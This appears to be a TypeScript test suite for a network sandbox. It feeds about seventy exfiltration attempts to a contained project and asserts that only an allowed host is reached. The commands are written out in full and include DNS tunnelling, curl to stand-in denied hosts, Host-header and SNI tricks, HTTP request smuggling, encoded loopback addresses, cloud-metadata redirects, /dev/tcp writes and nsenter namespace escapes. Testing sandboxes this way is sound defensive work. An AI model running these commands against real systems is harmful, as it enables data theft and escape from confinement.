import { createSocket, type Socket } from "node:dgram";
import { once } from "node:events";
import net, { type AddressInfo } from "node:net";

import { expect } from "chai";

import { sampled } from "../../../helpers/sample.js";
import { ContainedProject, describeContained } from "../contained.js";
import { LoopbackHosts } from "./loopback-hosts.js";

/** What a command tries to carry out. */
const SECRET = "hunter2-source";
const PROXY = "127.0.0.1:3128";

/** Sends raw bytes to the proxy; a pause between pieces. */
function raw(...pieces: readonly string[]): string {
    const sends = pieces.map(
        (piece) => `s.sendall(${JSON.stringify(piece)}.encode()); time.sleep(0.1)`
    );
    return python(`s = socket.create_connection(("127.0.0.1", 3128), 3)
${sends.join("\n")}
s.settimeout(1)
while s.recv(4096): pass`);
}

function python(program: string): string {
    return `python3 -c '
import socket, time
try:
${program.replace(/^/gm, "    ")}
except OSError as error: print(error)
'`;
}

const HOST = "Host: allowed.example\r\n";
const get = (url: string) => `curl -sS -m 5 --get --data-urlencode s=${SECRET} ${url}`;
const TUNNEL = `CONNECT allowed.example:443 HTTP/1.1\r\nHost: allowed.example:443\r\n\r\n`;
const tls = (options: string) =>
    `printf 'GET /${SECRET} HTTP/1.0\\r\\n\\r\\n' | timeout 5 openssl s_client -quiet -proxy ${PROXY} ${options}`;
const smuggled = `GET /${SECRET} HTTP/1.1\r\nHost: denied.example\r\n\r\n`;

/** Ways out, as a command may try them: MACHINE and DATAGRAMS are ports of this machine. */
const WAYS: readonly (readonly [what: string, command: string])[] = [
    // Names, as data.
    ["a lookup by the system", `getent hosts ${SECRET}.denied.example`],
    ["a lookup of a name below an allowed one", `getent hosts ${SECRET}.allowed.example`],
    [
        "a datagram to a public name server",
        python(
            `socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"${SECRET}", ("1.1.1.1", 53))`
        ),
    ],
    [
        "a datagram to the machine's name server",
        python(
            `socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"${SECRET}", ("127.0.0.53", 53))`
        ),
    ],
    [
        "a datagram to a port of the machine",
        python(
            `socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"${SECRET}", ("127.0.0.1", DATAGRAMS))`
        ),
    ],
    [
        "a lookup over TCP",
        python(`socket.create_connection(("1.1.1.1", 53), 2).sendall(b"${SECRET}")`),
    ],
    ["a lookup over HTTPS", get("https://dns.example/dns-query")],
    [
        "mDNS",
        python(
            `socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"${SECRET}", ("224.0.0.251", 5353))`
        ),
    ],
    // Other hosts.
    ["another host", get("http://denied.example/")],
    ["another host over TLS", get("https://denied.example/")],
    ["a host below an allowed one", get(`http://${SECRET}.allowed.example/`)],
    ["a host that an allowed one begins", get("http://allowed.example.denied.example/")],
    ["a Host header", get("-H 'Host: denied.example' http://allowed.example/")],
    [
        "a second Host header",
        raw(`GET http://allowed.example/${SECRET} HTTP/1.1\r\n${HOST}Host: denied.example\r\n\r\n`),
    ],
    [
        "a target beside an allowed Host header",
        raw(`GET http://denied.example/${SECRET} HTTP/1.1\r\n${HOST}\r\n`),
    ],
    ["a user that looks like the host", get("http://allowed.example@denied.example/")],
    [
        "a backslash in the URL",
        raw(`GET http://allowed.example\\@denied.example/${SECRET} HTTP/1.1\r\n${HOST}\r\n`),
    ],
    [
        "a NUL in the host",
        raw(`GET http://denied.example\u0000.allowed.example/${SECRET} HTTP/1.1\r\n${HOST}\r\n`),
    ],
    [
        "a full-width dot in the host",
        raw(`GET http://denied\uff0eexample/${SECRET} HTTP/1.1\r\n${HOST}\r\n`),
    ],
    [
        "another server name than the tunnel's",
        tls("-connect allowed.example:443 -servername denied.example"),
    ],
    ["no server name", tls("-connect allowed.example:443 -noservername")],
    [
        "a tunnel to another host with an allowed server name",
        tls("-connect denied.example:443 -servername allowed.example"),
    ],
    [
        "plain text in a tunnel",
        raw(TUNNEL, `GET /${SECRET} HTTP/1.1\r\nHost: denied.example\r\n\r\n`),
    ],
    ["SSH in a tunnel", raw(TUNNEL, `SSH-2.0-${SECRET}\r\n`)],
    [
        "a tunnel in a tunnel",
        raw(TUNNEL, "CONNECT denied.example:443 HTTP/1.1\r\nHost: denied.example:443\r\n\r\n"),
    ],
    [
        "a tunnel with another Host header",
        raw("CONNECT denied.example:443 HTTP/1.1\r\nHost: allowed.example:443\r\n\r\n"),
    ],
    // Redirects.
    ["a redirect to another host", get("-L http://allowed.example/to-denied")],
    ["a redirect to the machine", get("-L http://allowed.example/to-machine")],
    ["a redirect to the metadata service", get("-L http://allowed.example/to-metadata")],
    // Addresses.
    ["an IPv4 address", get(`--noproxy "" -x ${PROXY} http://127.0.0.1:MACHINE/`)],
    ["an IPv6 address", get(`--noproxy "" -x ${PROXY} 'http://[::1]:MACHINE/'`)],
    ["a mapped address", get(`--noproxy "" -x ${PROXY} 'http://[::ffff:127.0.0.1]:MACHINE/'`)],
    [
        "a decimal address",
        raw(`GET http://2130706433:MACHINE/${SECRET} HTTP/1.1\r\nHost: 2130706433:MACHINE\r\n\r\n`),
    ],
    [
        "a hexadecimal address",
        raw(`GET http://0x7f000001:MACHINE/${SECRET} HTTP/1.1\r\nHost: 0x7f000001:MACHINE\r\n\r\n`),
    ],
    [
        "an octal address",
        raw(`GET http://0177.0.0.1:MACHINE/${SECRET} HTTP/1.1\r\nHost: 0177.0.0.1:MACHINE\r\n\r\n`),
    ],
    [
        "a short address",
        raw(`GET http://127.1:MACHINE/${SECRET} HTTP/1.1\r\nHost: 127.1:MACHINE\r\n\r\n`),
    ],
    ["the machine's name", get(`--noproxy "" -x ${PROXY} http://localhost:MACHINE/`)],
    ["a name that leads to the machine", get("http://machine.example/")],
    ["a name that leads to a private network", get("http://private.example/")],
    ["a name that leads to the metadata service", get("http://metadata.example/")],
    ["the metadata address", get(`-x ${PROXY} http://169.254.169.254/latest/meta-data/`)],
    // Ports and protocols.
    ["another port of an allowed host", get("http://allowed.example:8080/")],
    [
        "a tunnel to another port",
        raw("CONNECT allowed.example:22 HTTP/1.1\r\nHost: allowed.example:22\r\n\r\n", SECRET),
    ],
    ["SOCKS", get(`--noproxy "" --socks5-hostname ${PROXY} http://denied.example/`)],
    ["FTP by the proxy", `curl -sS -m 5 -x ${PROXY} ftp://denied.example/${SECRET}`],
    ["HTTP/2 with prior knowledge", get("--http2-prior-knowledge http://denied.example/")],
    [
        "HTTP/2 by an upgrade",
        raw(
            `GET http://allowed.example/ HTTP/1.1\r\n${HOST}Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n`,
            `PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n${SECRET}`
        ),
    ],
    [
        "a WebSocket",
        raw(
            `GET http://allowed.example/ HTTP/1.1\r\n${HOST}Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: aGVsbG8=\r\nSec-WebSocket-Version: 13\r\n\r\n`,
            smuggled
        ),
    ],
    [
        "QUIC",
        python(
            `socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"\\xc0${SECRET}", ("1.1.1.1", 443))`
        ),
    ],
    // Smuggling.
    [
        "a request behind a length",
        raw(`POST http://allowed.example/ HTTP/1.1\r\n${HOST}Content-Length: 0\r\n\r\n`, smuggled),
    ],
    [
        "a request behind a length and chunks",
        raw(
            `POST http://allowed.example/ HTTP/1.1\r\n${HOST}Content-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${smuggled}`
        ),
    ],
    [
        "a request behind a disguised encoding",
        raw(
            `POST http://allowed.example/ HTTP/1.1\r\n${HOST}Transfer-Encoding: x, chunked\r\n\r\n0\r\n\r\n${smuggled}`
        ),
    ],
    [
        "a request behind two lengths",
        raw(
            `POST http://allowed.example/ HTTP/1.1\r\n${HOST}Content-Length: 0\r\nContent-Length: 80\r\n\r\n${smuggled}`
        ),
    ],
    [
        "a request behind a length of the connection",
        raw(
            `POST http://allowed.example/ HTTP/1.1\r\n${HOST}Connection: Content-Length\r\nContent-Length: ${smuggled.length}\r\n\r\n${smuggled}`
        ),
    ],
    [
        "a line feed in the target",
        raw(`GET http://allowed.example/\nHost: denied.example HTTP/1.1\r\n${HOST}\r\n`),
    ],
    [
        "a header folded over lines",
        raw(
            `GET http://allowed.example/ HTTP/1.1\r\n${HOST}X: a\r\n b\r\nHost : denied.example\r\n\r\n`
        ),
    ],
    [
        "a request that trickles",
        raw(
            ...`GET http://denied.example/ HTTP/1.1\r\n`.match(/.{6}|.+/gs)!,
            "Host: denied.example\r\n\r\n"
        ),
    ],
    [
        "TRACE",
        raw(`TRACE http://denied.example/${SECRET} HTTP/1.1\r\nHost: denied.example\r\n\r\n`),
    ],
    // Past the proxy.
    ["a port of the machine", `(echo ${SECRET} >/dev/tcp/127.0.0.1/MACHINE) 2>&1`],
    [
        "a port of the machine by its other addresses",
        `for a in $(hostname -I 2>/dev/null) 0.0.0.0 127.0.0.2 ::1; do (echo ${SECRET} >/dev/tcp/$a/MACHINE) 2>&1; done`,
    ],
    [
        "a public address",
        python(`socket.create_connection(("1.1.1.1", 443), 2).sendall(b"${SECRET}")`),
    ],
    [
        "an abstract socket of the machine",
        python(
            `s = socket.socket(socket.AF_UNIX); s.connect("\\0ABSTRACT"); s.sendall(b"${SECRET}")`
        ),
    ],
    [
        "a raw packet",
        python(
            `socket.socket(socket.AF_INET, socket.SOCK_RAW, 1).sendto(b"${SECRET}", ("1.1.1.1", 0))`
        ),
    ],
    ["a frame", python(`socket.socket(socket.AF_PACKET, socket.SOCK_RAW)`)],
    ["the virtual machine's host", python(`socket.socket(40, socket.SOCK_STREAM).connect((2, 1))`)],
    [
        "an interface of its own",
        "ip link add north0 type dummy; ip route add default dev lo; ip link set lo netns 1",
    ],
    [
        "the first process's network",
        `nsenter --target 1 --net curl -sS -m 3 --noproxy '*' http://127.0.0.1:MACHINE/${SECRET}; nsenter --net=/proc/1/ns/net true`,
    ],
    [
        "a socket of another process",
        `for fd in /proc/[0-9]*/fd/*; do (echo ${SECRET} >$fd) 2>/dev/null; done; ls /run/north; find / -xdev -type s 2>/dev/null`,
    ],
    [
        "every port of its own machine",
        `for p in $(seq 3100 3140); do [ $p = 3128 ] || (echo ${SECRET} >/dev/tcp/127.0.0.1/$p) 2>&1; done`,
    ],
];

describeContained(`the ${WAYS.length} ways to carry something out`, () => {
    let hosts: LoopbackHosts;
    let project: ContainedProject;
    let machine: net.Server;
    let abstract: net.Server;
    let datagrams: Socket;
    const connections: string[] = [];
    const name = `north-exfiltration-${process.pid}`;

    before(async () => {
        const told = (what: string) => (socket: net.Socket) => {
            connections.push(what);
            socket.on("error", () => {}).end("inside\n");
        };
        machine = net.createServer(told("a port of the machine")).listen(0);
        abstract = net.createServer(told("an abstract socket")).listen(`\0${name}`);
        datagrams = createSocket("udp4").bind(0, "127.0.0.1");
        datagrams.on("message", () => connections.push("a datagram"));
        await Promise.all([machine, abstract, datagrams].map((each) => once(each, "listening")));
    });
    after(() => {
        machine.close();
        abstract.close();
        datagrams.close();
    });

    beforeEach(async () => {
        connections.length = 0;
        hosts = new LoopbackHosts();
        hosts.addresses.set("machine.example", "127.0.0.2");
        hosts.addresses.set("private.example", "10.0.0.7");
        hosts.addresses.set("metadata.example", "169.254.169.254");
        const targets: Readonly<Record<string, string>> = {
            "/to-denied": `http://denied.example/${SECRET}`,
            "/to-machine": `http://127.0.0.1:${portOf(machine)}/${SECRET}`,
            "/to-metadata": `http://169.254.169.254/${SECRET}`,
        };
        await hosts.serve((request, response) => {
            const location = targets[request.url?.split("?")[0] ?? ""];
            response.writeHead(location ? 302 : 200, location ? { location } : {});
            request.resume().on("end", () => response.end("plain\n"));
        });
        await hosts.serveTls((_, response) => response.end("tls\n"));
        await hosts.serve((_, response) => response.end("other port\n"), 8080);
        project ??= await ContainedProject.make(
            { "a.txt": "a\n" },
            {
                reach: {
                    ...hosts.reach,
                    resolveHost: async (host) => (await hosts.reach.resolveHost?.(host)) ?? [],
                    portOf: (port) => hosts.reach.portOf?.(port) ?? 9,
                },
            }
        );
    });
    afterEach(() => hosts.close());

    for (const [what, command] of sampled(WAYS, 20)) {
        it(`Only the allowed host is reached by ${what}`, async () => {
            const asked: string[] = [];
            const address = datagrams.address();
            const filled = command
                .replaceAll("MACHINE", String(portOf(machine)))
                .replaceAll("DATAGRAMS", String(address.port))
                .replaceAll("ABSTRACT", name);
            const { outcome, traffic, effects } = await project.run(`${filled}; echo tried`, {
                hosts: {
                    permit: async (host) => {
                        asked.push(host);
                        const isAllowed = /^(?:allowed|machine|private|metadata)\.example$/;
                        return isAllowed.test(host) ? {} : { refused: "not allowed" };
                    },
                },
            });
            expect(outcome.stdout, outcome.stderr).to.match(/^tried$/m);
            expect(outcome.stderr).not.to.match(
                /command not found|SyntaxError|unrecognized option/
            );
            expect(connections).to.deep.equal([]);
            expect(
                hosts.arrived.filter((line) => !/^\w+ allowed\.example /.test(line))
            ).to.deep.equal([]);
            expect(
                hosts.lookedUp.filter(
                    (host) => !/^(?:allowed|machine|private|metadata)\.example$/.test(host)
                )
            ).to.deep.equal([]);
            const elsewhere = traffic?.filter(
                ({ host, sent }) => host !== "allowed.example" && sent > 0
            );
            expect(elsewhere).to.deep.equal([]);
            expect(effects).to.deep.equal([]);
        });
    }

    it(`All ${WAYS.length} ways are different, and there are 30 at least`, () => {
        expect(WAYS.length).to.be.at.least(30);
        expect(new Set(WAYS.map(([, command]) => command)).size).to.equal(WAYS.length);
    });
});

function portOf(server: net.Server): number {
    return (server.address() as AddressInfo).port;
}
